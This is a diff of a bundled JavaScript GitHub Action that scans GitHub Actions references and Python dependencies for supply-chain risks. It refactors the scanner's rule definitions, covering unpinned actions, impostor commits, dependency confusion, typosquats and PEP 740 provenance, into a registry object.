-    remediation: 'Use the full 40-character commit: `pkg @ git+https://github.com/owner/repo@<sha>`.',
-    spec: ['S8-9']
-};
-const PY_URL_DEPENDENCY = {
-    id: 'python/url-dependency',
-    title: 'URL or local path dependency without a pin',
-    severity: 'medium',
-    why: 'An archive URL without a hash can change under you, and a path dependency installs whatever is on disk; neither is checked against an index or an advisory database.',
-    remediation: 'Publish the package to an index and pin it, or add `--hash=sha256:...` to the URL requirement (`#sha256=` in the URL for pip).',
-    spec: ['S8-9']
-};
-const PY_EXTRA_INDEX = {
-    id: 'python/extra-index-url',
-    title: 'Extra package index (dependency confusion)',
-    severity: 'high',
-    why: 'pip merges all indexes and takes the highest version from any of them: anyone can publish a package with the name of a private one on PyPI and it wins (dependency confusion, as in the 2022 PyTorch `torchtriton` attack).',
-    remediation: 'Use a single `--index-url` that proxies PyPI, or pin every package with hashes; with uv, declare the index with `explicit = true` and map packages to it.',
-    spec: ['S8-9'],
-    references: [
-        {
-            title: 'PyTorch torchtriton dependency confusion',
-            url: 'https://pytorch.org/blog/compromised-nightly-dependency/'
-        }
-    ]
-};
-const PY_NO_LOCK = {
-    id: 'python/no-lock',
-    title: 'Python project without a lock file',
-    severity: 'low',
-    why: 'Without a lock, the versions installed in CI and releases are whatever the resolver picks that day, so neither a review nor an advisory check covers what actually ran.',
-    remediation: 'Commit a lock (`uv lock`, `poetry lock`, `pip-compile --generate-hashes`, or a PEP 751 `pylock.toml`) and install from it in CI and release jobs.',
-    spec: ['S8-9']
-};
-const PY_VULNERABLE = {
-    id: 'python/vulnerable',
-    title: 'Python dependency with a known vulnerability',
-    severity: 'high',
-    why: 'An advisory in OSV covers the pinned version.',
-    remediation: 'Update to a fixed version (see the advisory), or record in the policy why the vulnerable code is not reachable, with an expiry date.',
-    spec: ['S8-9']
-};
-const PY_MALICIOUS = {
-    id: 'python/malicious',
-    title: 'Known malicious Python package',
-    severity: 'critical',
-    why: "OSV lists this package version as malware (a `MAL-` record): installing it runs the attacker's code.",
-    remediation: 'Remove it, check every machine that installed it for compromise, and rotate the credentials those machines held.',
-    spec: ['S8-9'],
-    references: [{ title: 'OpenSSF malicious packages', url: 'https://github.com/ossf/malicious-packages' }]
-};
-const PY_YANKED = {
-    id: 'python/yanked',
-    title: 'Pinned release was yanked',
-    severity: 'medium',
-    why: 'The maintainers withdrew this release from PyPI, usually because it is broken or unsafe (the compromised Ultralytics releases were yanked).',
-    remediation: 'Move to a release that is not yanked; read the yank reason first.',
-    spec: ['S8-9']
-};
-const PY_PROVENANCE_MISSING = {
-    id: 'python/provenance-missing',
-    title: 'Locked file has no PEP 740 provenance',
-    severity: 'low',
-    why: 'Without provenance there is no signed link between the file on PyPI and the source repository and workflow that built it; adoption is still partial, so this is informational unless the policy requires it.',
-    remediation: 'Ask the maintainers to publish with Trusted Publishing and attestations (pypa/gh-action-pypi-publish does it by default), or accept the gap with an ignore.',
-    spec: ['S8-9'],
-    references: [PEP_740]
-};
-const PY_PROVENANCE_INVALID = {
-    id: 'python/provenance-invalid',
-    title: 'PEP 740 provenance does not verify',
-    severity: 'critical',
-    why: 'The attestation PyPI serves for this file does not verify against Sigstore or does not name this exact file: the file or its provenance was tampered with.',
-    remediation: 'Do not install this file. Compare its digest with the lock, report it to the maintainers and to PyPI security.',
-    spec: ['S8-9'],
-    references: [PEP_740]
-};
-const PY_PUBLISHER_MISMATCH = {
-    id: 'python/publisher-mismatch',
-    title: 'Trusted Publisher differs from the expected one',
-    severity: 'high',
-    why: 'The file was published from a repository, workflow or environment other than the one the policy (or the pylock attestation identities) expects: a takeover or a new, unreviewed release path.',
-    remediation: 'Confirm the change with the maintainers; then update the expected publisher in the policy or the lock.',
-    spec: ['S8-9']
-};
-const PY_PROVENANCE_REGRESSION = {
-    id: 'python/provenance-regression',
-    title: 'Release lost the provenance its predecessor had',
-    severity: 'high',
-    why: 'The previous release was published with attestations and this one was not: the pattern of a stolen API token used to upload outside the trusted workflow (Ultralytics 8.3.45 and 8.3.46).',
-    remediation: 'Hold the update until the maintainers confirm the release; pin the previous release meanwhile.',
-    spec: ['S8-9'],
-    references: [{ title: 'Ultralytics compromise', url: 'https://github.com/ultralytics/ultralytics/issues/18027' }]
-};
-const PY_TYPOSQUAT = {
-    id: 'python/typosquat',
-    title: 'Dependency name one typo from a popular package',
-    severity: 'high',
-    why: 'Attackers publish packages whose names are one keystroke from popular ones and wait for a typo in a requirements file; the install then runs their code.',
-    remediation: 'Check the name. If it is the intended package, add it to `typosquat-allow` in the policy.',
-    spec: ['S8-9']
-};
-const PY_COOLDOWN = {
-    id: 'python/cooldown',
-    title: 'Locked release is younger than the cooldown',
-    severity: 'medium',
-    why: 'Most malicious releases are found and removed within hours or days; waiting a few days before adopting a release keeps them out (the compromised Ultralytics releases were up for 1 to 12 hours).',
-    remediation: "Lock an older release, or wait until the release is older than the policy's `cooldown-days`.",
-    spec: ['S8-9']
-};
-const RULES = [
-    UNPINNED_ACTION,
-    UNPINNED_DOCKER,
-    NO_VERSION_COMMENT,
-    VERSION_MISMATCH,
-    IMPOSTOR_COMMIT,
-    COMPROMISED_ACTION,
-    VULNERABLE_ACTION,
-    NESTED_UNPINNED,
-    PY_UNPINNED,
-    PY_MISSING_HASHES,
-    PY_VCS_UNPINNED,
-    PY_URL_DEPENDENCY,
-    PY_EXTRA_INDEX,
-    PY_NO_LOCK,
-    PY_VULNERABLE,
-    PY_MALICIOUS,
-    PY_YANKED,
-    PY_PROVENANCE_MISSING,
-    PY_PROVENANCE_INVALID,
-    PY_PUBLISHER_MISMATCH,
-    PY_PROVENANCE_REGRESSION,
-    PY_TYPOSQUAT,
-    PY_COOLDOWN
-];
+const RULES = defineRules({
+    UNPINNED_ACTION: {
+        id: 'actions/unpinned',
+        title: 'Action not pinned to a full commit SHA',
+        severity: 'high',
+        why: 'A tag or branch can be moved to new code by whoever controls the action repository; in the tj-actions/changed-files compromise every tag was repointed at a commit that dumped CI secrets into the logs. Only a full 40-character commit SHA is immutable.',
+        remediation: 'Replace the ref with the full commit SHA it resolves to and keep the version as a trailing comment, e.g. `uses: actions/checkout@<40-hex-sha> # v4.2.2`. Tools such as Dependabot (github-actions ecosystem) keep such pins and comments current.',
+        spec: ['S8-9'],
+        references: [TJ_ACTIONS]
+    },
+    UNPINNED_DOCKER: {
+        id: 'actions/docker-unpinned',
+        title: 'Docker action image not pinned to a digest',
+        severity: 'high',
+        why: 'A `docker://` image tag can be re-pushed with different content; only an `@sha256:` digest names one image.',
+        remediation: 'Pin the image by digest: `uses: docker://owner/image@sha256:<digest>`.',
+        spec: ['S8-9']
+    },
+    NO_VERSION_COMMENT: {
+        id: 'actions/no-version-comment',
+        title: 'SHA-pinned action without a version comment',
+        severity: 'low',
+        why: 'Without the version beside the SHA a reviewer cannot tell which release is pinned, and Dependabot cannot keep the comment current, so outdated or unexpected commits go unnoticed.',
+        remediation: 'Add the release the SHA belongs to as a trailing comment: `uses: owner/repo@<sha> # v1.2.3`.',
+        spec: ['S8-9', 'S8-10']
+    },
+    VERSION_MISMATCH: {
+        id: 'actions/version-mismatch',
+        title: 'Version comment does not match the pinned SHA',
+        severity: 'medium',
+        why: 'Reviewers and Dependabot trust the comment; a comment naming a release the SHA is not (pinact documents a `# v3.5.1` that was really v2.7.0) hides which code runs, and is a way to slip a different commit past review.',
+        remediation: 'Resolve the tag named in the comment and pin its commit, or correct the comment to the release the SHA belongs to.',
+        spec: ['S8-9', 'S8-10']
+    },
+    IMPOSTOR_COMMIT: {
+        id: 'actions/impostor-commit',
+        title: 'Pinned commit is not in the named action repository',
+        severity: 'critical',
+        why: "GitHub serves a commit pushed to any fork under the parent repository's name, so `owner/action@<sha>` can run code the owner never published. A commit reachable from none of the repository's branches or tags is such an impostor (or was force-pushed away).",
+        remediation: 'Pin a commit that a branch or release tag of the action repository contains: resolve the release tag you want (`git ls-remote https://github.com/owner/repo refs/tags/v1.2.3`) and use that SHA.',
+        spec: ['S8-9'],
+        references: [{ title: 'zizmor: impostor-commit', url: 'https://docs.zizmor.sh/audits/#impostor-commit' }]
+    },
+    COMPROMISED_ACTION: {
+        id: 'actions/compromised',
+        title: 'Known-compromised action commit or version',
+        severity: 'critical',
+        why: 'This commit or release is listed as malicious (an indicator of compromise or a security advisory): running it can leak every secret the job can read.',
+        remediation: 'Pin a clean release (see the advisory), rotate every secret the workflows that ran it could read, and review their logs for leaked values.',
+        spec: ['S8-9'],
+        references: [TJ_ACTIONS]
+    },
+    VULNERABLE_ACTION: {
+        id: 'actions/vulnerable',
+        title: 'Action version with a known vulnerability',
+        severity: 'high',
+        why: 'An advisory in the GitHub Actions ecosystem covers the release this reference pins.',
+        remediation: 'Update to a fixed release (see the advisory) and pin its commit SHA.',
+        spec: ['S8-9']
+    },
+    NESTED_UNPINNED: {
+        id: 'actions/nested-unpinned',
+        title: 'Pinned composite action uses an unpinned action',
+        severity: 'high',
+        why: "Pinning the outer action does not pin what it runs: a composite action's own `uses:` on a tag moves with that tag. The tj-actions compromise started this way, through an unpinned `reviewdog/action-setup@v1` inside another action.",
+        remediation: 'Ask the action maintainers to pin their nested actions by SHA, or replace the action with one that does (or vendor its steps).',
+        spec: ['S8-9'],
+        references: [
+            {
+                title: 'reviewdog/action-setup compromise (CVE-2025-30154)',
+                url: 'https://github.com/advisories/GHSA-qmg3-hpqr-gqvc'
+            }
+        ]
+    },
+    PY_UNPINNED: {
+        id: 'python/unpinned',
+        title: 'Python dependency not pinned to an exact version',
+        severity: 'medium',
+        why: 'A range lets every install pick whatever is newest on the index at that moment, including a release published by an attacker minutes earlier; builds are neither reproducible nor reviewable.',
+        remediation: 'Pin with `==` in a lock or requirements file generated by a resolver (`uv lock`, `pip-compile --generate-hashes`, `uv export`), and keep ranges only in `pyproject.toml`.',
+        spec: ['S8-9']
+    },
+    PY_MISSING_HASHES: {
+        id: 'python/missing-hashes',
+        title: 'Python dependency without hashes',
+        severity: 'medium',
+        why: "Without a hash the index (or anyone who can write to it) can serve different bytes for the same version. pip's hash-checking mode is all-or-nothing: once any requirement has `--hash`, every one must, or the install fails.",
+        remediation: 'Generate hashes for every file: `pip-compile --generate-hashes`, `uv pip compile --generate-hashes` or `uv export`; lock files from uv and Poetry record them.',
+        spec: ['S8-9'],
+        references: [PIP_HASHES]
+    },
+    PY_VCS_UNPINNED: {
+        id: 'python/vcs-unpinned',
+        title: 'VCS dependency not pinned to a full commit',
+        severity: 'high',
+        why: 'A branch or tag in a git URL can be moved by whoever controls that repository; only a full commit id names fixed code.',
+        remediation: 'Use the full 40-character commit: `pkg @ git+https://github.com/owner/repo@<sha>`.',
+        spec: ['S8-9']
+    },
+    PY_URL_DEPENDENCY: {
+        id: 'python/url-dependency',
+        title: 'URL or local path dependency without a pin',
+        severity: 'medium',
+        why: 'An archive URL without a hash can change under you, and a path dependency installs whatever is on disk; neither is checked against an index or an advisory database.',
+        remediation: 'Publish the package to an index and pin it, or add `--hash=sha256:...` to the URL requirement (`#sha256=` in the URL for pip).',
+        spec: ['S8-9']
+    },
+    PY_EXTRA_INDEX: {
+        id: 'python/extra-index-url',
+        title: 'Extra package index (dependency confusion)',
+        severity: 'high',
+        why: 'pip merges all indexes and takes the highest version from any of them: anyone can publish a package with the name of a private one on PyPI and it wins (dependency confusion, as in the 2022 PyTorch `torchtriton` attack).',
+        remediation: 'Use a single `--index-url` that proxies PyPI, or pin every package with hashes; with uv, declare the index with `explicit = true` and map packages to it.',
+        spec: ['S8-9'],
+        references: [
+            {
+                title: 'PyTorch torchtriton dependency confusion',
+                url: 'https://pytorch.org/blog/compromised-nightly-dependency/'
+            }
+        ]
+    },
+    PY_NO_LOCK: {
+        id: 'python/no-lock',
+        title: 'Python project without a lock file',
+        severity: 'low',
+        why: 'Without a lock, the versions installed in CI and releases are whatever the resolver picks that day, so neither a review nor an advisory check covers what actually ran.',
+        remediation: 'Commit a lock (`uv lock`, `poetry lock`, `pip-compile --generate-hashes`, or a PEP 751 `pylock.toml`) and install from it in CI and release jobs.',
+        spec: ['S8-9']
+    },
+    PY_VULNERABLE: {
+        id: 'python/vulnerable',
+        title: 'Python dependency with a known vulnerability',
+        severity: 'high',
+        why: 'An advisory in OSV covers the pinned version.',
+        remediation: 'Update to a fixed version (see the advisory), or record in the policy why the vulnerable code is not reachable, with an expiry date.',
+        spec: ['S8-9']
+    },
+    PY_MALICIOUS: {
+        id: 'python/malicious',
+        title: 'Known malicious Python package',
+        severity: 'critical',
+        why: "OSV lists this package version as malware (a `MAL-` record): installing it runs the attacker's code.",
+        remediation: 'Remove it, check every machine that installed it for compromise, and rotate the credentials those machines held.',
+        spec: ['S8-9'],
+        references: [{ title: 'OpenSSF malicious packages', url: 'https://github.com/ossf/malicious-packages' }]
+    },
+    PY_YANKED: {
+        id: 'python/yanked',
+        title: 'Pinned release was yanked',
+        severity: 'medium',
+        why: 'The maintainers withdrew this release from PyPI, usually because it is broken or unsafe (the compromised Ultralytics releases were yanked).',
+        remediation: 'Move to a release that is not yanked; read the yank reason first.',
+        spec: ['S8-9']
+    },
+    PY_PROVENANCE_MISSING: {
+        id: 'python/provenance-missing',
+        title: 'Locked file has no PEP 740 provenance',
+        severity: 'low',
+        why: 'Without provenance there is no signed link between the file on PyPI and the source repository and workflow that built it; adoption is still partial, so this is informational unless the policy requires it.',
+        remediation: 'Ask the maintainers to publish with Trusted Publishing and attestations (pypa/gh-action-pypi-publish does it by default), or accept the gap with an ignore.',
+        spec: ['S8-9'],
+        references: [PEP_740]
+    },
+    PY_PROVENANCE_INVALID: {
+        id: 'python/provenance-invalid',
+        title: 'PEP 740 provenance does not verify',
+        severity: 'critical',
+        why: 'The attestation PyPI serves for this file does not verify against Sigstore or does not name this exact file: the file or its provenance was tampered with.',
+        remediation: 'Do not install this file. Compare its digest with the lock, report it to the maintainers and to PyPI security.',
+        spec: ['S8-9'],
+        references: [PEP_740]
+    },
+    PY_PUBLISHER_MISMATCH: {
+        id: 'python/publisher-mismatch',
+        title: 'Trusted Publisher differs from the expected one',
+        severity: 'high',
+        why: 'The file was published from a repository, workflow or environment other than the one the policy (or the pylock attestation identities) expects: a takeover or a new, unreviewed release path.',
+        remediation: 'Confirm the change with the maintainers; then update the expected publisher in the policy or the lock.',
+        spec: ['S8-9']
+    },
+    PY_PROVENANCE_REGRESSION: {
+        id: 'python/provenance-regression',
+        title: 'Release lost the provenance its predecessor had',
+        severity: 'high',
+        why: 'The previous release was published with attestations and this one was not: the pattern of a stolen API token used to upload outside the trusted workflow (Ultralytics 8.3.45 and 8.3.46).',
+        remediation: 'Hold the update until the maintainers confirm the release; pin the previous release meanwhile.',
+        spec: ['S8-9'],
+        references: [{ title: 'Ultralytics compromise', url: 'https://github.com/ultralytics/ultralytics/issues/18027' }]
+    },
+    PY_TYPOSQUAT: {
+        id: 'python/typosquat',
+        title: 'Dependency name one typo from a popular package',
+        severity: 'high',
+        why: 'Attackers publish packages whose names are one keystroke from popular ones and wait for a typo in a requirements file; the install then runs their code.',
+        remediation: 'Check the name. If it is the intended package, add it to `typosquat-allow` in the policy.',
+        spec: ['S8-9']
+    },
+    PY_COOLDOWN: {
+        id: 'python/cooldown',
+        title: 'Locked release is younger than the cooldown',
+        severity: 'medium',
+        why: 'Most malicious releases are found and removed within hours or days; waiting a few days before adopting a release keeps them out (the compromised Ultralytics releases were up for 1 to 12 hours).',
+        remediation: "Lock an older release, or wait until the release is older than the policy's `cooldown-days`.",
+        spec: ['S8-9']
+    }
+});
+const REGISTRY = new RuleRegistry('verify-deps', rulesOf(RULES));
 
 ;// CONCATENATED MODULE: ./actions/verify-deps/src/actions.ts
 // Checks of GitHub Actions references: the form of every `uses:` (offline),
@@ -20892,7 +21003,7 @@ function checkActionForm(refs, policy) {
         const location = locOf(u);
         if (u.kind === 'docker') {
             if (!u.ref)
-                findings.push(createFinding(UNPINNED_DOCKER, {
+                findings.push(createFinding(RULES.UNPINNED_DOCKER, {
                     message: `\`${u.raw}\` names a mutable image tag.`,
                     location,
                     evidence: u.raw
@@ -20908,7 +21019,7 @@ function checkActionForm(refs, policy) {
             const allowed = u.ref && !/^[0-9a-f]{7,39}$/.test(u.ref)
                 ? policy.allowTags.find((a) => a.owner === u.owner?.toLowerCase())
                 : undefined;
-            findings.push(createFinding(UNPINNED_ACTION, {
+            findings.push(createFinding(RULES.UNPINNED_ACTION, {
                 severity: allowed?.severity,
                 message: `\`${shortRef(u)}\` ${what}.${allowed ? ` The policy allows tags for ${u.owner}, so this is reported at ${allowed.severity}.` : ''}`,
                 location,
@@ -20917,7 +21028,7 @@ function checkActionForm(refs, policy) {
             }));
         }
         else if (!u.comment) {
-            findings.push(createFinding(NO_VERSION_COMMENT, {
+            findings.push(createFinding(RULES.NO_VERSION_COMMENT, {
                 message: `\`${u.raw}\` has no version comment.`,
                 location,
                 evidence: u.raw
@@ -20958,7 +21069,7 @@ async function checkActionsOnline(refs, api, opts) {
         const location = locOf(u);
         const ioc = findIoc(owner, repo, sha);
         if (ioc)
-            findings.push(createFinding(COMPROMISED_ACTION, {
+            findings.push(createFinding(RULES.COMPROMISED_ACTION, {
                 message: `\`${shortRef(u)}@${sha}\` is ${ioc.what}.`,
                 location,
                 evidence: u.raw,
@@ -20985,7 +21096,7 @@ async function checkActionsOnline(refs, api, opts) {
                 info.tags.find((t) => t.name === `v${version}` || `v${t.name}` === version);
             if (!tag || tag.sha !== sha) {
                 const floating = /^v?\d+$/.test(version);
-                findings.push(createFinding(VERSION_MISMATCH, {
+                findings.push(createFinding(RULES.VERSION_MISMATCH, {
                     severity: floating && tag ? 'info' : undefined,
                     message: !tag
                         ? `The comment says ${version}, but ${owner}/${repo} has no tag ${version}${tagsHere.length ? `; the SHA is ${tagsHere.join(', ')}` : ''}.`
@@ -21012,7 +21123,7 @@ async function checkActionsOnline(refs, api, opts) {
             state = 'unknown';
         }
         if (state === 'impostor' || state === 'missing') {
-            findings.push(createFinding(IMPOSTOR_COMMIT, {
+            findings.push(createFinding(RULES.IMPOSTOR_COMMIT, {
                 message: state === 'missing'
                     ? `${sha} does not exist in ${owner}/${repo} or its forks.`
                     : `${sha} is not reachable from any branch or tag of ${owner}/${repo}: it lives only in a fork (or was force-pushed away).`,
@@ -21070,7 +21181,7 @@ async function nestedFindings(api, u) {
     for (const n of inner) {
         if (n.kind === 'local' || (n.kind === 'docker' && n.ref) || (n.ref && FULL_SHA.test(n.ref)))
             continue;
-        out.push(createFinding(NESTED_UNPINNED, {
+        out.push(createFinding(RULES.NESTED_UNPINNED, {
             message: `\`${shortRef(u)}\` (pinned) runs \`${n.raw}\` at line ${n.line} of its action.yml, which is not pinned to a commit.`,
             location: locOf(u),
             evidence: n.raw,
@@ -21760,7 +21871,7 @@ function sourceFindings(d, out) {
     if (d.vcs) {
         if (!d.vcs.commit) {
             const what = d.vcs.ref ? `the ref \`${d.vcs.ref}\`, which can move` : 'no ref at all (the default branch)';
-            out.push(createFinding(PY_VCS_UNPINNED, {
+            out.push(createFinding(RULES.PY_VCS_UNPINNED, {
                 message: `${d.rawName} is installed from ${d.vcs.url} at ${what}.`,
                 location: loc(d),
                 key: `${d.name}:${d.vcs.url}`,
@@ -21773,7 +21884,7 @@ function sourceFindings(d, out) {
         if (d.path || !d.hashes.length) {
             const what = d.path ? `the local path \`${d.path}\`` : `the URL ${d.url} without a hash`;
             if (!(d.editable && d.path && d.source !== 'requirements' && d.source !== 'environment-yml')) {
-                out.push(createFinding(PY_URL_DEPENDENCY, {
+                out.push(createFinding(RULES.PY_URL_DEPENDENCY, {
                     message: `${d.rawName} is installed from ${what}.`,
                     location: loc(d),
                     key: `${d.name}:${d.url ?? d.path}`,
@@ -21790,7 +21901,7 @@ function checkPinning(m) {
     const out = [];
     for (const o of m.options) {
         if (o.option === '--extra-index-url') {
-            out.push(createFinding(PY_EXTRA_INDEX, {
+            out.push(createFinding(RULES.PY_EXTRA_INDEX, {
                 message: `\`--extra-index-url ${o.value}\` adds a second index; pip takes the highest version found on any of them.`,
                 location: { file: m.file, line: o.line },
                 evidence: `--extra-index-url ${o.value}`,
@@ -21810,7 +21921,7 @@ function checkPinning(m) {
                         .map((f) => f.filename ?? f.url)
                         .slice(0, 3)
                         .join(', ')})`;
-                out.push(createFinding(PY_MISSING_HASHES, {
+                out.push(createFinding(RULES.PY_MISSING_HASHES, {
                     message: `${d.rawName} ${d.version ?? ''} is locked with ${what}.`,
                     location: loc(d),
                     key: d.name,
@@ -21827,7 +21938,7 @@ function checkPinning(m) {
         if (sourceFindings(d, out) || input)
             continue;
         if (!d.version) {
-            out.push(createFinding(PY_UNPINNED, {
+            out.push(createFinding(RULES.PY_UNPINNED, {
                 message: `${label(d)} is not pinned to one version${d.specifier ? '' : ' (no version at all)'}.`,
                 location: loc(d),
                 key: d.name,
@@ -21836,7 +21947,7 @@ function checkPinning(m) {
         }
         if (!d.hashes.length) {
             if (requireHashes) {
-                out.push(createFinding(PY_MISSING_HASHES, {
+                out.push(createFinding(RULES.PY_MISSING_HASHES, {
                     severity: 'high',
                     message: `${label(d)} has no \`--hash\` while other requirements in this file do: pip's hash-checking mode then refuses the whole install, or (if hashes are dropped to make it work) checks nothing.`,
                     location: loc(d),
@@ -21850,7 +21961,7 @@ function checkPinning(m) {
     }
     if (pinnedWithoutHash && !requireHashes) {
         const first = m.dependencies.find((d) => d.version && !d.hashes.length);
-        out.push(createFinding(PY_MISSING_HASHES, {
+        out.push(createFinding(RULES.PY_MISSING_HASHES, {
             message: `None of the ${pinnedWithoutHash} pinned requirements in ${m.file} has a \`--hash\`.`,
             location: loc(first),
             key: `${m.file}:no-hashes`
@@ -21869,7 +21980,7 @@ function checkNoLock(manifests) {
         return [];
     return manifests
         .filter((m) => m.kind === 'pyproject' && m.dependencies.some((d) => d.group !== 'build-system'))
-        .map((m) => createFinding(PY_NO_LOCK, {
+        .map((m) => createFinding(RULES.PY_NO_LOCK, {
         message: `${m.file} declares ${m.dependencies.length} dependencies but the repository has no lock file (uv.lock, poetry.lock, pylock.toml or hashed requirements).`,
         location: { file: m.file, line: 1 },
         key: m.file
@@ -21887,7 +21998,7 @@ function checkTyposquats(manifests, policy) {
             const hit = findTyposquat(d.name);
             if (!hit)
                 continue;
-            out.push(createFinding(PY_TYPOSQUAT, {
+            out.push(createFinding(RULES.PY_TYPOSQUAT, {
                 confidence: 'medium',
                 message: `\`${d.rawName}\` is one ${hit.kind.replace(/-/g, ' ')} away from the popular package \`${hit.target}\`.`,
                 location: loc(d),
@@ -21979,7 +22090,7 @@ async function verifyDeps(input, opts, services = {}) {
             for (const u of actionRefs) {
                 // Known-compromised commits need no network: the list ships with the action.
                 if (u.kind !== 'docker' && u.ref && FULL_SHA.test(u.ref))
-                    findings.push(...(await checkActionsOnline([u], iocOnlyApi, { nested: false })).findings.filter((f) => f.ruleId === COMPROMISED_ACTION.id));
+                    findings.push(...(await checkActionsOnline([u], iocOnlyApi, { nested: false })).findings.filter((f) => f.ruleId === RULES.COMPROMISED_ACTION.id));
             }
             if (actionRefs.some((u) => u.ref && FULL_SHA.test(u.ref)))
                 network('actions', 'resolving version comments, impostor commits and nested actions through the GitHub API');
@@ -22019,7 +22130,7 @@ async function verifyDeps(input, opts, services = {}) {
                 advisories = r.advisories;
                 for (const p of r.problems)
                     notChecked.push({
-                        check: p.target.ecosystem === 'PyPI' ? PY_VULNERABLE.id : VULNERABLE_ACTION.id,
+                        check: p.target.ecosystem === 'PyPI' ? RULES.PY_VULNERABLE.id : RULES.VULNERABLE_ACTION.id,
                         target: `${p.target.name}${p.target.versions.length ? `@${p.target.versions.join(',')}` : ''}`,
                         reason: p.reason
                     });
@@ -22052,7 +22163,7 @@ async function verifyDeps(input, opts, services = {}) {
     notes.push(...applied.notes);
     const count = manifests.reduce((n, m) => n + m.dependencies.length, 0) + actionRefs.length;
     return {
-        rules: RULES,
+        rules: REGISTRY.list(),
         findings: applied.findings,
         errors,
         notChecked,
@@ -22116,7 +22227,7 @@ function pyVulnFinding(h, pins) {
     const pin = pins.find((p) => p.name === h.target.name && p.version === h.version);
     const d = pin.deps[0];
     const malicious = h.record.id.startsWith('MAL-');
-    const rule = malicious ? PY_MALICIOUS : PY_VULNERABLE;
+    const rule = malicious ? RULES.PY_MALICIOUS : RULES.PY_VULNERABLE;
     const also = pin.deps.length > 1 ? ` Also pinned in ${[...new Set(pin.deps.slice(1).map((x) => x.file))].join(', ')}.` : '';
     return createFinding(rule, {
         severity: malicious ? undefined : advisorySeverity(h.record),
@@ -22135,7 +22246,7 @@ function actionVulnFinding(h, targets) {
     const t = targets.find((x) => x.target === h.target);
     const u = t.refs[0];
     const compromised = /compromis|malicious/i.test(`${h.record.summary ?? ''} ${h.record.details ?? ''}`);
-    return createFinding(compromised ? COMPROMISED_ACTION : VULNERABLE_ACTION, {
+    return createFinding(compromised ? RULES.COMPROMISED_ACTION : RULES.VULNERABLE_ACTION, {
         severity: compromised ? undefined : advisorySeverity(h.record),
         message: `\`${h.target.name}\` ${h.version} is affected by ${h.record.id}${h.record.summary ? `: ${h.record.summary}` : ''}.${h.fixed.length ? ` Fixed in ${h.fixed.join(', ')}.` : ''}${t.refs.length > 1 ? ` (${t.refs.length} references)` : ''}`,
         location: { file: u.file, line: u.line, column: u.column },
@@ -22170,9 +22281,9 @@ async function checkPyPI(pins, manifests, opts, services, wants) {
         }
         catch (e) {
             for (const c of [
-                wants.wantYanked && PY_YANKED.id,
+                wants.wantYanked && RULES.PY_YANKED.id,
                 wants.wantProvenance && 'provenance',
-                wants.wantCooldown && PY_COOLDOWN.id
+                wants.wantCooldown && RULES.PY_COOLDOWN.id
             ].filter(Boolean))
                 notChecked.push({ check: c, target, reason: oneLine(e) });
             return;
@@ -22192,7 +22303,7 @@ async function checkPyPI(pins, manifests, opts, services, wants) {
         if (wants.wantYanked) {
             const y = releaseFiles.find((f) => f.yanked);
             if (y)
-                findings.push(createFinding(PY_YANKED, {
+                findings.push(createFinding(RULES.PY_YANKED, {
                     message: `${d.rawName} ${pin.version} was yanked from PyPI${typeof y.yanked === 'string' ? `: "${y.yanked}"` : ''}.`,
                     location: depLocation(d),
                     key: `${pin.name}@${pin.version}`,
@@ -22202,11 +22313,11 @@ async function checkPyPI(pins, manifests, opts, services, wants) {
         if (wants.wantCooldown) {
             const times = releaseFiles.map((f) => Date.parse(f.uploadTime ?? '')).filter((t) => !Number.isNaN(t));
             if (!times.length)
-                notChecked.push({ check: PY_COOLDOWN.id, target, reason: 'PyPI gives no upload time' });
+                notChecked.push({ check: RULES.PY_COOLDOWN.id, target, reason: 'PyPI gives no upload time' });
             else {
                 const ageDays = (opts.now.getTime() - Math.min(...times)) / 86_400_000;
                 if (ageDays < opts.policy.cooldownDays) {
-                    findings.push(createFinding(PY_COOLDOWN, {
+                    findings.push(createFinding(RULES.PY_COOLDOWN, {
                         message: `${d.rawName} ${pin.version} was released ${ageDays < 1 ? `${Math.max(0, Math.round(ageDays * 24))} hour(s)` : `${Math.floor(ageDays)} day(s)`} ago; the policy wants ${opts.policy.cooldownDays} days.`,
                         location: depLocation(d),
                         key: `${pin.name}@${pin.version}`,
@@ -22232,7 +22343,7 @@ async function checkPyPI(pins, manifests, opts, services, wants) {
             const prev = previousRelease(proj, pin.version);
             const prevHad = prev && proj.files.some((f) => sameVersion(f.version, prev) && f.provenance);
             if (prevHad) {
-                findings.push(createFinding(PY_PROVENANCE_REGRESSION, {
+                findings.push(createFinding(RULES.PY_PROVENANCE_REGRESSION, {
                     message: `${d.rawName} ${pin.version} has no provenance, but ${prev} was published with attestations.`,
                     location: depLocation(d),
                     key: `${pin.name}@${pin.version}`,
@@ -22240,7 +22351,7 @@ async function checkPyPI(pins, manifests, opts, services, wants) {
                 }));
             }
             else if (expected.length || opts.provenance === 'require') {
-                findings.push(createFinding(PY_PROVENANCE_MISSING, {
+                findings.push(createFinding(RULES.PY_PROVENANCE_MISSING, {
                     severity: opts.provenance === 'require' || expected.length ? 'high' : undefined,
                     message: `${d.rawName} ${pin.version} has no PEP 740 provenance${expected.length ? ', although an expected publisher is configured' : ''}.`,
                     location: depLocation(d),
@@ -22249,7 +22360,7 @@ async function checkPyPI(pins, manifests, opts, services, wants) {
                 }));
             }
             else {
-                findings.push(createFinding(PY_PROVENANCE_MISSING, {
+                findings.push(createFinding(RULES.PY_PROVENANCE_MISSING, {
                     severity: 'info',
                     message: `${d.rawName} ${pin.version} has no PEP 740 provenance.`,
                     location: depLocation(d),
@@ -22299,7 +22410,7 @@ async function checkPyPI(pins, manifests, opts, services, wants) {
             }
             const props = { package: pin.name, version: pin.version, file: file.filename };
             if (verdict.status === 'invalid') {
-                findings.push(createFinding(PY_PROVENANCE_INVALID, {
+                findings.push(createFinding(RULES.PY_PROVENANCE_INVALID, {
                     message: `The provenance of ${file.filename} does not verify: ${verdict.reason}.`,
                     location: depLocation(d),
                     key: `${file.filename}`,
@@ -22308,7 +22419,7 @@ async function checkPyPI(pins, manifests, opts, services, wants) {
             }
             else if (verdict.status === 'publisher-mismatch') {
                 const claimed = prov.attestation_bundles.map((b) => claimedPublisher(b.publisher)).find(Boolean);
-                findings.push(createFinding(PY_PUBLISHER_MISMATCH, {
+                findings.push(createFinding(RULES.PY_PUBLISHER_MISMATCH, {
                     message: `${file.filename} was signed by ${verdict.identity}: ${verdict.reason}.${!expected.length && claimed ? ` (PyPI names ${claimed.repository} as its publisher.)` : ''}`,
                     location: depLocation(d),
                     key: `${file.filename}`,
@@ -22493,9 +22604,13 @@ class PyPIClient {
     }
 }
 
+;// CONCATENATED MODULE: ./actions/verify-deps/config.schema.json
